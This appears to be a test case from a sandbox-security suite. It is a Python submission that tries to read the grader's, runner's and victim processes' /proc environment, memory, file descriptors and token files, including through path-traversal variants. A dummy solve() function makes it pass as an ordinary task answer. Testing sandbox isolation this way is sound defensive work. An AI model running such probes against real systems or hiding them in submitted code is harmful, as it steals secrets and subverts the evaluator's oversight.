# TRIES: /proc/<pid>/{environ,mem,maps,fd,fdinfo,root,cwd,exe,task,auxv,stack,syscall,io,attr,map_files} of the runner, process 1, the
# victim and the judge. SUCCESS: a secret of the runner's or the victim's environment, or the token, is in the answer.
#: variants = pod, nolandlock
#: check = secret runner; secret victim; secret token

import os

for pid in (
    1,
    __RUNNER__,
    __VICTIM__,
    os.getppid(),
    *range(max(2, os.getpid() - 6), os.getpid()),
    "self/../1",
    "self/task/../../1",
    "thread-self/../../../1",
):
    for n in (
        "environ",
        "mem",
        "maps",
        "cmdline",
        "status",
        "auxv",
        "io",
        "syscall",
        "stack",
        "fdinfo/3",
        "fd/3",
        "fd/5",
        "root/proc/1/environ",
        "cwd/../token",
        "task/%s/environ" % pid,
        "attr/current",
        "exe",
        "oom_score_adj",
        "comm",
    ):
        try:
            print(pid, n, open(f"/proc/{pid}/{n}", "rb").read(4000))
        except OSError as e:
            pass
    for n in ("cwd", "root", "exe", "fd/0", "fd/3", "ns/net"):
        try:
            print(pid, n, os.readlink(f"/proc/{pid}/{n}"))
        except OSError as e:
            pass


def solve(x):
    return 2
